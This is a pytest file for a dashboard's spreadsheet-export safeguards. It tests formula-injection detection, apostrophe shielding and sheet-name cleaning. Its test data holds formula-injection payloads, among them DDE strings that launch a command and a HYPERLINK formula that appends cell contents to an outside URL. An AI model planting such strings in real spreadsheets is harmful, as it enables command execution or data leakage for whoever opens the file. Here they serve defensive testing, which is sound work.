from __future__ import annotations

import pandas as pd
import pytest

from dashboard.content.characters import is_formula, sheet_names, shielded

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"Trykk")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "+47 70 20 75 00 ring no",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "- eit punkt i ei liste",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    '="a";"b"',
    "-5+A1",
]
"""Twenty texts that some spreadsheet reads as a formula."""
HARMLESS = [
    "-5",
    "+5",
    "-5,5",
    "-1 000",
    "-",
    "–",
    "5 %",
    "a=b",
    "1534",
    "0301",
    "Haram",
    "..",
    ":",
    "-12.5",
    "",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_what_begins_like_a_formula_is_found(text):
    assert is_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_dashes_and_words_are_no_formulas(text):
    assert not is_formula(text)


def test_only_what_begins_like_a_formula_gets_an_apostrophe():
    values = pd.Series(["=1+1", "-5", None, "Haram", "=1+1"], dtype="str")
    assert shielded(values).fillna("").tolist() == ["'=1+1", "-5", "", "Haram", "'=1+1"]


def test_names_of_sheets_are_allowed_short_and_different():
    names = sheet_names(["Mål: [a/b]*?", "x" * 40, "X" * 40, "'", "", "Mål", "mål"])
    assert len({name.casefold() for name in names}) == len(names)
    assert all(0 < len(name) <= 31 for name in names)
    assert not any(set(name) & set("[]:*?/\\") for name in names)
    assert not any(name.startswith("'") or name.endswith("'") for name in names)
